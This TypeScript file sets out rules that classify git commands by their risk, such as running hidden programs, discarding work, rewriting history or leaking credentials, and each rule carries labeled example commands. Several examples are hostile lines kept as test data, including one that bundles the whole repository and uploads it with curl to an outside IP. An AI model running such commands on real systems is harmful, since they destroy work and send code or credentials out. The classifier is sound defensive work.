import type { Row } from '../command/row.js';
import { TO_EVERYBODY } from './conditions/to-production.js';

const COMMIT = { '-m': 'text', '--message': 'text', '-F': 'read', '--file': 'read', '-C': 'text', '-c': 'text', '--author': 'text', '--date': 'text', '--fixup': 'text', '--squash': 'text', '-t': 'read', '--template': 'read', '--trailer': 'text', '--pathspec-from-file': 'read', '-S': 'text' } as const;
/** With these nothing of a file is shown but its name and how much changed. */
const SUMMARY = ['--stat', '--shortstat', '--numstat', '--dirstat', '--summary', '--name-only', '--name-status', '--quiet', '-s', '--no-patch', '--check', '--raw'] as const;
const PATCH = ['-p', '-u', '--patch', '-c', '--cc', '--patch-with-stat', '--patch-with-raw', '-W', '--function-context'] as const;
const SHOW = { '--output': 'write', '-o': 'write', '-n': 'text', '--format': 'text', '--pretty': 'text', '--since': 'text', '--until': 'text', '--author': 'text', '--grep': 'text', '-S': 'text', '-G': 'text', '-L': 'text', '-O': 'read', '--diff-filter': 'text', '-U': 'text' } as const;

/** Settings for a new repository that git runs. */
const RUN_BY_SETTING = /^(?:-c|--config)=(?:core\.(?:pager|editor|sshcommand|fsmonitor|hookspath|askpass|gitproxy)|filter\.|credential\.|diff\.external|gpg\.|init\.templatedir|protocol\.|include|alias\.)/i;

/** Brings what another repository holds, by a program there that options may name. */
const FROM_REMOTE = {
  options: {
    '--upload-pack': 'hidden', '-u': 'hidden', '-c': 'text', '-b': 'text', '--branch': 'text', '--depth': 'text', '--config': 'text', '--template': 'execute',
    '-o': 'text', '--reference': 'text', '-j': 'text', '--separate-git-dir': 'write',
  },
  effects: [
    { kind: 'execute', resource: 'git-config', when: { value: /^--template=./ } },
    { kind: 'fetch', resource: 'host' },
    { kind: 'execute', resource: 'git-config', when: { operand: /^ext::|^-/ } },
    { kind: 'execute', resource: 'git-config', when: { value: RUN_BY_SETTING } },
    // Branches of one's own are put where those of the other side stand.
    { kind: 'change-history', resource: 'branch', when: { operand: /^\+[^:]*:(?:refs\/(?:heads\/|\*)|(?!refs\/)\S)/ } },
    { kind: 'change-history', resource: 'branch', when: { any: ['-f', '--force'], operand: /^[^:+/]+(?:\/[^:]*)?:(?!\/\/)(?:refs\/(?:heads\/|\*)|(?!refs\/)\w)/, noOperand: /[@.][^\s:]{0,200}:|:\/\// } },
  ],
} as const satisfies Partial<Row>;

/** What a stash takes out of the work tree. */
const STASHED: Row['effects'] = [
  { kind: 'use', resource: 'work-tree', name: 'changes', when: { none: ['-u', '--include-untracked', '-a', '--all'] } },
  { kind: 'use', resource: 'work-tree', name: 'new too', when: { any: ['-u', '--include-untracked'], none: ['-a', '--all'] } },
  { kind: 'use', resource: 'work-tree', name: 'ignored too', when: { any: ['-a', '--all'] } },
];

/** What `git clean` is told to take: all, or anything but what compilers made (`*.o`). Not `*.obj`, which are models too. */
const MORE_THAN_COMPILED = /^(?!(?:(?!\S*\.\.)[\w.*/-]*\.(?:o|py[co]|class)(?: |$))+$)/;

/** git, by subcommand. What stands before the subcommand is read elsewhere. */
export const GIT: readonly Row[] = [
  { program: 'git', examples: [] },
  {
    program: 'git status | git remote | git describe | git rev-parse | git rev-list | git shortlog | git ls-files | git ls-tree | git ls-remote | git merge-base | git name-rev | git for-each-ref | git help | git version | git merge-tree | git cherry | git count-objects | git fsck | git var | git check-ignore | git check-attr | git bisect | git bundle | git sparse-checkout | git maintenance | git range-diff | git show-ref | git interpret-trailers | git diff-tree | git submodule | git lfs | git flow | git gui | git mergetool | git request-pull | git write-tree | git commit-tree',
    operands: 'text',
    options: { '-m': 'text', '--upload-pack': 'hidden', '--exec': 'hidden', '--strategy': 'text', '-s': 'text', '-X': 'text', '-o': 'text', '--output': 'write' },
    examples: [['git status'], ["git -c 'alias.status=reset --hard' status"], ["git -c 'alias.undo=reset --hard' undo", 'discard work-tree'], ['git ls-remote --upload-pack=id .', 'execute hidden-command']],
  },
  { program: 'git init', operands: 'write', options: { '--template': 'execute', '-b': 'text', '--initial-branch': 'text', '--separate-git-dir': 'write' }, effects: [{ kind: 'execute', resource: 'git-config', when: { any: ['--template'] } }], examples: [['git init --template=/tmp/x', 'execute git-config'], ['git init -b main']] },
  { program: 'git rebase', operands: 'text', options: { '-x': 'command', '--exec': 'command', '--onto': 'text', '--strategy': 'text', '-s': 'text', '-X': 'text' }, effects: [{ kind: 'change-history', resource: 'history', name: 'commits', when: { any: ['--root'] } }], examples: [['git rebase main', 'use work-tree:main'], ['git rebase --onto a b c', 'use work-tree:--onto a b c'], ['git rebase --continue'], ['git rebase --root', 'change-history history:commits'], ["git rebase -x 'rm -rf a' main", 'delete -r /home/u/proj/a']] },
  { program: 'git merge | git revert | git cherry-pick', operands: 'text', options: { '-m': 'text', '--message': 'text', '-F': 'read', '--strategy': 'text', '-s': 'text', '-X': 'text' }, examples: [['git merge x', 'use work-tree:x'], ['git merge --abort'], ['git revert HEAD', 'use work-tree:HEAD'], ['git revert -m 1 abc', 'use work-tree:-m 1 abc'], ['git revert --abort'], ['git cherry-pick -x abc', 'use work-tree:abc']] },
  { program: 'git sparse-checkout set | git sparse-checkout init', operands: 'text', effects: [{ kind: 'use', resource: 'work-tree' }], examples: [['git sparse-checkout set src', 'use work-tree:src'], ['git sparse-checkout init --cone', 'use work-tree']] },
  { program: 'git difftool', operands: 'revision', options: { '-x': 'hidden', '--extcmd': 'hidden', '-t': 'text', '--tool': 'text' }, examples: [['git difftool -y -x ./x', 'execute hidden-command'], ['git difftool HEAD~1']] },
  { program: 'git fetch-pack | git upload-archive', operands: 'text', options: { '--upload-pack': 'hidden', '--receive-pack': 'hidden', '--exec': 'hidden', '--remote': 'text' }, examples: [['git fetch-pack --upload-pack=./x y', 'execute hidden-command']] },
  { program: 'git svn | git p4 | git cvsimport | git instaweb', operands: 'text', options: { '--authors-prog': 'hidden', '--httpd': 'hidden', '-d': 'text' }, examples: [['git instaweb --httpd=./x', 'execute hidden-command'], ['git svn fetch']] },
  { program: 'git maintenance start | git maintenance register', effects: [{ kind: 'persist', resource: 'schedule', name: 'git maintenance' }], examples: [['git maintenance start', 'persist schedule']] },
  {
    program: 'git clone',
    operands: { each: 'text', last: 'write' },
    recursive: true,
    ...FROM_REMOTE,
    examples: [
      ['git clone https://example.test/x', 'fetch host'],
      ['git clone https://example.test/x y', 'write -r /home/u/proj/y'],
      ['git clone --template=/tmp/t https://x.test/y', 'execute git-config'],
      ['git clone -c core.fsmonitor=./x https://example.test/x', 'execute git-config'],
    ],
  },
  {
    program: 'git fetch | git pull',
    operands: 'text',
    ...FROM_REMOTE,
    examples: [['git fetch --upload-pa=id', 'execute hidden-command'], ['git pull', 'fetch host'], ['git pull . x', 'use work-tree:x'], ["git fetch origin '+refs/*:refs/*'", 'change-history branch'], ["git fetch -f origin main:main", 'change-history branch'], ["git fetch origin '+refs/heads/*:refs/remotes/origin/*'", 'fetch host'], ['git fetch origin main:main', 'fetch host'], ["git fetch --force --tags", 'fetch host']],
  },
  { program: 'git show | git diff | git diff-index | git diff-files | git stash show', operands: 'revision', options: SHOW, variants: [{ when: { any: SUMMARY, none: PATCH }, operands: 'text' }], examples: [['git show HEAD:.env', 'read /home/u/proj/.env'], ['git diff --output=a', 'write /home/u/proj/a'], ['git diff --stat .env']] },
  { program: 'git log | git whatchanged | git reflog | git stash list', operands: 'text', options: { ...SHOW, '-L': 'revision' }, variants: [{ when: { any: PATCH }, operands: 'revision' }], examples: [['git log --oneline'], ['git log -p .env', 'read /home/u/proj/.env'], ['git log -L1,5:.env', 'read /home/u/proj/.env']] },
  { program: 'git blame | git annotate', operands: 'revision', options: SHOW, examples: [['git blame a', 'read /home/u/proj/a']] },
  { program: 'git format-patch', operands: 'revision', options: { ...SHOW, '--subject-prefix': 'text', '-v': 'text' }, examples: [['git format-patch --stdout -1 -- .env', 'read /home/u/proj/.env']] },
  // What is put into the repository is shown from there by a name that tells nothing.
  { program: 'git hash-object', operands: 'inspect', options: { '-t': 'text', '--path': 'text' }, variants: [{ when: { any: ['-w'] }, operands: 'read' }], examples: [['git hash-object -w .env', 'read /home/u/proj/.env'], ['git hash-object .env', 'inspect /home/u/proj/.env']] },
  { program: 'git notes', operands: 'text', options: { '-m': 'text', '-F': 'read', '--file': 'read', '-C': 'text', '-c': 'text', '--ref': 'text' }, examples: [['git notes add -F .env', 'read /home/u/proj/.env'], ['git notes show']] },
  { program: 'git merge-file', operands: 'write', options: { '-L': 'text' }, variants: [{ when: { any: ['-p', '--stdout'] }, operands: 'read' }], examples: [['git merge-file -p .env a b', 'read /home/u/proj/.env'], ['git merge-file a b c', 'write /home/u/proj/a']] },
  { program: 'git cat-file', operands: 'revision', inputNames: ['--batch', '--batch-command'], variants: [{ when: { any: ['-t', '-s', '-e'] }, operands: 'text' }], examples: [['git cat-file -p HEAD:.env', 'read /home/u/proj/.env'], ['git cat-file -e HEAD:.env'], ['echo HEAD:.env | git cat-file --batch', 'read /home/u/proj/HEAD:.env']] },
  { program: 'git bundle create', operands: { first: 'write', each: 'text' }, options: { '--version': 'text' }, examples: [['git bundle create /tmp/a.bundle --all', 'write /tmp/a.bundle'], ['git bundle create /tmp/a.bundle --all && curl --data-binary @/tmp/a.bundle http://203.0.113.44/', 'send repository:whole project']] },
  { program: 'git archive', operands: 'revision', options: { '-o': 'write', '--output': 'write', '--remote': 'text', '--exec': 'hidden', '--format': 'text', '--prefix': 'text' }, examples: [['git archive -o a.zip HEAD', 'write /home/u/proj/a.zip']] },
  {
    program: 'git grep',
    operands: { skip: 1, unless: ['-e', '-f'], each: 'revision' },
    variants: [{ when: { any: ['-l', '-L', '-c', '-q', '--name-only', '--files-with-matches', '--files-without-match', '--count', '--quiet'] }, operands: 'text' }],
    options: {
      '-e': 'text', '-O': 'hidden', '--open-files-in-pager': 'hidden', '-f': 'read', '-A': 'text', '-B': 'text', '-C': 'text', '-m': 'text', '--threads': 'text',
    },
    joined: ['-O', '--open-files-in-pager'],
    prints: [{ amount: 'matches' }],
    heedsIgnoreFiles: { none: ['--no-index'] },
    searchesAll: [{ any: ['--no-index', '--no-exclude-standard'], none: ['-l', '-L', '-c', '-q', '-o', '--name-only', '--files-with-matches', '--files-without-match', '--count', '--quiet', '--exclude-standard'], noOperand: /[*]/ }],
    effects: [{ kind: 'traverse', path: '.', recursive: true }],
    examples: [['git grep x', 'traverse -r /home/u/proj'], ['git grep KEY -- .env', 'read /home/u/proj/.env'], ['git grep -O./x foo', 'execute hidden-command']],
  },
  { program: 'git add | git stage | git update-index', operands: 'use', variants: [{ when: { any: ['-p', '--patch', '-i', '--interactive', '-e', '--edit'] }, operands: 'read' }, { when: { any: ['-f', '--force'] }, operands: 'send', recursive: true }], effects: [{ kind: 'send', path: '.', recursive: true, when: { any: ['-f', '--force'], none: ['-u', '--update', '-p', '--patch', '-i', '--interactive', '-n', '--dry-run'], operands: 'none' } }], options: { '--chmod': 'text', '--pathspec-from-file': 'read', '--cacheinfo': 'text' }, examples: [['git add a', 'use /home/u/proj/a'], ['git add -f a', 'send -r /home/u/proj/a'], ['git add -fA', 'send -r /home/u/proj'], ['git add --force --all', 'send -r /home/u/proj'], ['git add -A'], ['git add -fu']] },
  { program: 'git commit', operands: 'use', options: COMMIT, examples: [["git commit -m 'rm -rf /'"], ['git commit -m "ext::rm -r a"'], ['git commit -F a', 'read /home/u/proj/a']] },
  { program: 'git mv', operands: { each: ['pathspec', 'read'], last: 'write' }, examples: [['git mv a b', 'write /home/u/proj/b']] },
  { program: 'git rm', operands: 'delete', recursive: ['-r'], options: { '--pathspec-from-file': 'read' }, variants: [{ when: { any: ['--cached', '-n', '--dry-run'] }, operands: 'use' }], examples: [['git rm -r a', 'delete -r /home/u/proj/a'], ['git rm --cached a', 'use /home/u/proj/a']] },
  {
    program: 'git apply',
    operands: 'patch',
    options: { '-p': 'text', '--directory': 'write', '--exclude': 'text', '--include': 'pathspec' },
    stdin: ['use', 'patch'],
    effects: [{ kind: 'write', path: '/', recursive: true, when: { any: ['--unsafe-paths'] } }],
    examples: [
      ['git apply --unsafe-paths a.patch', 'write -r /'],
      ['git apply a.patch', 'use /home/u/proj/a.patch'],
      ["git apply --include='b*' a.patch", 'write -r /home/u/proj/b*'],
      ["git apply <<< '+++ b/src/c'", 'write /home/u/proj/src/c'],
    ],
  },
  { program: 'git am', operands: 'patch', options: { '-p': 'text', '--directory': 'write' }, stdin: ['use', 'patch'], examples: [['git am a.patch', 'use /home/u/proj/a.patch'], ['git am --abort']] },
  { program: 'git reset', operands: 'text', effects: [{ kind: 'discard', resource: 'work-tree', name: 'changes', when: { any: ['--hard', '--merge'] } }], examples: [['git reset --hard HEAD~1', 'discard work-tree'], ['git reset --soft HEAD~1'], ['git reset --keep HEAD~1', 'use work-tree:HEAD~1'], ['git reset --har', 'discard work-tree'], ['git reset --ha HEAD', 'discard work-tree'], ['git reset --so HEAD~1'], ['git reset --m HEAD~1']] },
  {
    program: 'git checkout',
    operands: 'pathspec',
    options: { '-b': 'text', '-B': 'text', '--orphan': 'text', '--conflict': 'text', '--pathspec-from-file': 'read' },
    effects: [
      { kind: 'discard', resource: 'work-tree', name: 'changes', when: { any: ['-f', '--force', '--pathspec-from-file'] } },
      { kind: 'discard', resource: 'work-tree', when: { none: ['-b', '-B', '-f', '--force', '--orphan'], operand: /^(?:\.|\.\/|:\/|\*|:\(.*)$|^\.{1,2}\/(?!\uFFFC)/ } },
      { kind: 'discard', resource: 'work-tree', when: { none: ['-b', '-B', '-f', '--force', '--orphan', '--ours', '--theirs'], operand: /^\.{1,2}\/\uFFFC/ } },
      { kind: 'discard', resource: 'work-tree', name: 'behind', when: { all: ['--'], none: ['-b', '-B', '-f', '--force', '--ours', '--theirs'] } },
    ],
    examples: [
      ['git checkout .', 'discard work-tree'],
      ['git checkout --ours .', 'discard work-tree'],
      ['git checkout --theirs -- a.lock'],
      ['git checkout -- a', 'discard work-tree:a'],
      ['git checkout main -- a b', 'discard work-tree:a b'],
      ['git checkout main a b', 'discard work-tree:a b'],
      ['git checkout main'],
      ['git checkout -b x'],
    ],
  },
  { program: 'git checkout-index | git read-tree', operands: 'text', options: { '--prefix': 'text' }, effects: [{ kind: 'discard', resource: 'work-tree', name: 'changes', when: { any: ['-f', '--force', '--reset'] } }, { kind: 'discard', resource: 'work-tree', name: 'changes', when: { all: ['-u'], none: ['--reset'] } }], examples: [['git checkout-index -f -a', 'discard work-tree'], ['git read-tree -u --reset HEAD', 'discard work-tree']] },
  {
    program: 'git switch',
    operands: 'text',
    options: { '-c': 'text', '-C': 'text', '--orphan': 'text' },
    effects: [
      { kind: 'use', resource: 'work-tree', name: '--orphan', when: { any: ['--orphan'] } },
      { kind: 'discard', resource: 'work-tree', name: 'changes', when: { any: ['-f', '--force', '--discard-changes'] } },
    ],
    examples: [['git switch -f main', 'discard work-tree'], ['git switch --orphan x', 'use work-tree:--orphan'], ['git switch main']],
  },
  { program: 'git restore', operands: 'text', options: { '-s': 'text', '--source': 'text' }, effects: [{ kind: 'discard', resource: 'work-tree', when: { none: ['--staged', '-S'] } }, { kind: 'discard', resource: 'work-tree', when: { any: ['--worktree', '-W'] } }], examples: [['git restore .', 'discard work-tree'], ['git restore --staged .'], ['git restore -SW .', 'discard work-tree']] },
  {
    program: 'git clean',
    operands: 'text',
    options: { '-e': 'text', '--exclude': 'text' },
    effects: [
      { kind: 'discard', resource: 'work-tree', when: { any: ['-f', '--force'], none: ['-n', '--dry-run', '-i', '--interactive'], line: MORE_THAN_COMPILED } },
      { kind: 'discard', resource: 'work-tree', idle: 'unanswered', when: { any: ['-i', '--interactive'], none: ['-n', '--dry-run'] } },
    ],
    examples: [
      ['git clean -fdx', 'discard work-tree'], ["git clean -fX '*.o'"], ["git clean -fx -- '*.pyc' 'src/**/*.class'"], ["git clean -fX '*.o' src", 'discard work-tree'], ["git clean -fX '*.o' -e '*.class' '*'", 'discard work-tree'],
      ['git clean -fx a.o/../src', 'discard work-tree'], ['for f in a.o src; do git clean -fx $f; done', 'discard work-tree'], ['git clean -f assets/ship.obj', 'discard work-tree'], ['git clean -n'], ['git clean -di'],
      ['git clean -fdi'], ['echo 1 | git clean -di', 'discard work-tree'], ['git clean --fo -d', 'discard work-tree'], ['git clean --dry -fd'], ['git -c clean.requireForce=0 clean -d', 'discard work-tree'],
      ['git config clean.requireForce false && git clean -dx', 'discard work-tree'], ['git -c clean.requireForce=true clean -d'], ['git -c clean.requireForce=false clean -nd'], ['git clean -fd --no-force'],
      ['git clean --no-force -fd', 'discard work-tree'], ['git clean -fd -e x --no-force'], ['git clean -fdx -e --no-force', 'discard work-tree'], ['git clean -fdxe --no-force', 'discard work-tree'],
      ['git clean -fd --exclude --no-force', 'discard work-tree'],
    ],
  },
  { program: 'git stash save', operands: 'text', effects: STASHED, examples: [['git stash save x', 'use work-tree:changes']] },
  { program: 'git stash | git stash push', operands: 'pathspec', options: { '-m': 'text', '--message': 'text', '--pathspec-from-file': 'read' }, variants: [{ when: { operands: 'some' }, effects: [] }], effects: STASHED, examples: [['git stash', 'use work-tree:changes'], ['git stash push -um x', 'use work-tree:new too'], ['git stash push -- x']] },
  { program: 'git stash pop | git stash apply | git stash branch', operands: 'text', examples: [['git stash pop', 'use work-tree:stash@{0}'], ['git stash apply 2', 'use work-tree:stash@{2}']] },
  { program: 'git stash drop | git stash clear', effects: [{ kind: 'discard', resource: 'history', name: 'stash' }], examples: [['git stash drop', 'discard history:stash']] },
  {
    program: 'git branch',
    operands: 'text',
    options: { '-u': 'text', '--set-upstream-to': 'text', '--contains': 'text', '--merged': 'text', '--format': 'text', '--sort': 'text' },
    effects: [
      { kind: 'change-history', resource: 'branch', when: { any: ['-D'] } },
      { kind: 'change-history', resource: 'branch', when: { all: ['--delete', '--force'] } },
      { kind: 'change-history', resource: 'branch', when: { all: ['-d', '-f'] } },
      { kind: 'change-history', resource: 'branch', when: { any: ['-f', '-C', '--force'], none: ['-d', '--delete', '-D'] } },
      { kind: 'change-history', resource: 'branch', when: { any: ['-M'], line: /^(?!ma(?:in|ster)$)/ } },
    ],
    examples: [
      ['git branch -D x', 'change-history branch:x'],
      ['git switch -c try && git switch - && git branch -D try'],
      ['git branch backup && git rebase main && git branch -D backup'],
      ['git switch -c try && git branch -D other', 'change-history branch:other'],
      ['git branch -D try && git switch -c try', 'change-history branch:try'],
      ['git switch -c "$B" && git branch -D "$B"', 'change-history branch'],
      ['git switch -C try main && git branch -D try', 'change-history branch:try'],
      ['git branch -d x'],
      ['git branch -M main'],
      ['git branch -M x main', 'change-history branch:x main'],
      ['git branch -M master main', 'change-history branch:master main'],
      ['git branch -M $B', 'change-history branch'],
      ['for b in main x; do git branch -M $b; done', 'change-history branch:x'],
    ],
  },
  { program: 'git tag', operands: 'text', options: { '-m': 'text', '--message': 'text', '-F': 'read', '--file': 'read', '-l': 'text', '--sort': 'text', '-u': 'text' }, effects: [{ kind: 'change-history', resource: 'tag', when: { any: ['-d', '--delete', '-f', '--force'] } }], examples: [['git tag -d v1', 'change-history tag:v1'], ['git tag -f v1 -m --no-force', 'change-history tag:v1'], ['git tag -f v1 --no-force'], ['git tag v1']] },
  {
    program: 'git push | git send-pack',
    operands: 'text',
    options: { '-o': 'text', '--push-option': 'text', '--receive-pack': 'hidden', '--exec': 'hidden', '--repo': 'text' },
    effects: [
      { kind: 'change-history', resource: 'remote-branch', idle: 'thrown-away', when: { any: ['-f', '--force', '--delete', '-d', '--mirror', '--prune'], none: ['-n', '--dry-run'] } },
      { kind: 'change-history', resource: 'remote-branch', idle: 'thrown-away', when: { any: ['--force-with-lease'], operand: /^(?:\S+:)?(?:refs\/heads\/)?(?:main|master|trunk|production)$/, none: ['-n', '--dry-run', '-f', '--force', '--delete', '-d'] } },
      { kind: 'change-history', resource: 'remote-branch', idle: 'thrown-away', when: { operand: /^(?:\+|:).|^:/, none: ['-n', '--dry-run', '-f', '--force', '--delete', '-d'] } },
      // Remotes that run what is pushed to them.
      { ...TO_EVERYBODY, when: { line: /^(?!pre|non)(?:heroku|dokku|piku|(?:\S+[-_])?(?:prod(?:uction)?|live)(?:-\w+)?)(?: |$)/, none: ['-n', '--dry-run'] } },
    ],
    examples: [
      ['git push heroku main', 'publish deployment:production'],
      ['git push -f production main', 'publish deployment:production', 'change-history remote-branch'],
      ['git push shop-production main', 'publish deployment:production'], ['git push prod-eu main', 'publish deployment:production'], ['git push pre-prod main'], ['git push products main'],
      ['git push heroku-staging main'], ['git push heroku main --dry-run'],
      ['git push origin live'],
      ['git push --force-with-lease origin main', 'change-history remote-branch:origin main'],
      ['git push --del origin x', 'change-history remote-branch'],
      ['git push --dr --force origin x'],
      ['git push --f origin x'],
      ['git push --force-with-lease origin main-fix'],
      ['git push --force origin main', 'change-history remote-branch:origin main'],
      ['git push origin +main', 'change-history remote-branch'],
      ['git push -fu origin x', 'change-history remote-branch'],
      ['git push -f origin main -o --no-force', 'change-history remote-branch'],
      ['git push -f --no-force origin main'],
      ['git push origin main'], ['git push --force-with-lease'],
      ['git send-pack --force git@x.test:a.git HEAD:refs/heads/main', 'change-history remote-branch'], ['git send-pack git@x.test:a.git +main', 'change-history remote-branch'], ['git send-pack git@x.test:a.git main'], ['git send-pack -n --force git@x.test:a.git main'],
      ['T=$(mktemp -d); git init -q $T/r && cd $T/r && git init -q --bare $T/o.git && git remote add origin $T/o.git && git push -f origin HEAD:main && git push origin :main', 'write /tmp/tmp.4XXXXXX/r'],
      ['T=$(mktemp -d); git init -q $T/r && cd $T/r && git push -f $T/o.git HEAD:main', 'write /tmp/tmp.4XXXXXX/r'],
      ['T=$(mktemp -d); git init -q $T/r && cd $T/r && git remote add origin https://x.test/a.git && git push -f origin HEAD:main', 'change-history remote-branch'],
      ['T=$(mktemp -d); git init -q $T/r && cd $T/r && git remote add origin $T/o.git && git remote set-url origin https://x.test/a.git && git push -f origin HEAD:main', 'change-history remote-branch'],
      ['T=$(mktemp -d); git clone -q . $T/r && cd $T/r && git push -f origin HEAD:main', 'change-history remote-branch'],
      ['T=$(mktemp -d); git init -q $T/r; git remote add origin $T/o.git; git push -f origin HEAD:main', 'change-history remote-branch'],
      ['T=$(mktemp -d); git init -q $T/r && cd $T/r && git remote add origin $T/o.git && git config url.https://x.test/.insteadOf /tmp/ && git push -f origin main', 'change-history remote-branch'],
    ],
  },
  { program: 'git worktree remove', operands: 'text', effects: [{ kind: 'discard', resource: 'work-tree', when: { any: ['-f', '--force'] } }], examples: [['git worktree remove --force x', 'discard work-tree:x'], ['git worktree remove x'], ['git worktree add ../try; git worktree remove --force ../other', 'discard work-tree:../other']] },
  { program: 'git worktree add', operands: { first: 'write', each: 'text' }, options: { '-b': 'text', '-B': 'text', '--reason': 'text' }, examples: [['git worktree add ../x main', 'write /home/u/x']] },
  { program: 'git subtree', operands: 'text', options: { '--prefix': 'write', '-P': 'write', '-m': 'text' }, examples: [['git subtree add --prefix lib https://example.test/x main', 'write /home/u/proj/lib']] },
  { program: 'git worktree', operands: 'text', options: { '-b': 'text', '-B': 'text' }, examples: [['git worktree list']] },
  {
    program: 'git submodule add',
    operands: { each: 'text', last: 'write' },
    options: { '-b': 'text', '--name': 'text', '--reference': 'text', '--depth': 'text' },
    effects: [{ kind: 'fetch', resource: 'host' }, { kind: 'change-service', resource: 'git-config', name: 'remote', when: { operand: /^ext::/ } }],
    examples: [['git submodule add https://example.test/x a', 'write /home/u/proj/a'], ['git submodule add ext::x a', 'change-service git-config:remote']],
  },
  { program: 'git submodule deinit', operands: 'text', effects: [{ kind: 'discard', resource: 'work-tree', when: { any: ['-f', '--force'] } }], examples: [['git submodule deinit -f x', 'discard work-tree:x']] },
  { program: 'git credential', operands: 'text', effects: [{ kind: 'reveal-environment', resource: 'credential', when: { operand: /^fill$/ }, idle: 'output-discarded' }], examples: [['git credential fill', 'reveal-environment credential'], ['git credential fill > /dev/null']] },
  { program: 'git remote set-url | git remote add', operands: 'text', effects: [{ kind: 'change-service', resource: 'git-config', name: 'remote', when: { operand: /^ext::/ } }, { kind: 'persist', resource: 'git-config', when: { any: ['--push'], none: ['--delete'], line: /^\S+ .*[:/]/ } }, { kind: 'change-history', resource: 'remote-branch', name: 'mirrored', when: { value: /^--mirror=push$/ } }], examples: [['git remote add --mirror=push o https://example.test/x', 'change-history remote-branch:mirrored'], ['git remote add --mirror=fetch o https://example.test/x'], ['git remote set-url --push o ssh://x.test/y.git', 'persist git-config'], ['git remote set-url --push o no_push'], ['git remote set-url --delete --push o git@x.test:y.git'], ['git remote set-url o https://example.test/x'], ['git remote add o ext::sh', 'change-service git-config:remote'], ['git remote add o https://example.test/x']] },
  {
    program: 'git send-email | git http-push | git imap-send',
    operands: 'send',
    options: {
      '--to': 'text', '--cc': 'text', '--from': 'text', '--subject': 'text', '--smtp-server': 'text', '--sendmail-cmd': 'hidden', '--to-cmd': 'hidden',
      '--cc-cmd': 'hidden', '--header-cmd': 'hidden',
    },
    effects: [{ kind: 'execute', resource: 'hidden-command', name: 'git send-email', when: { value: /^--smtp-server=\// } }],
    examples: [['git send-email a.patch', 'send /home/u/proj/a.patch']],
  },
  { program: 'git hook run', operands: 'text', effects: [{ kind: 'execute', resource: 'project-script' }], examples: [['git hook run pre-commit', 'execute project-script:pre-commit']] },
];
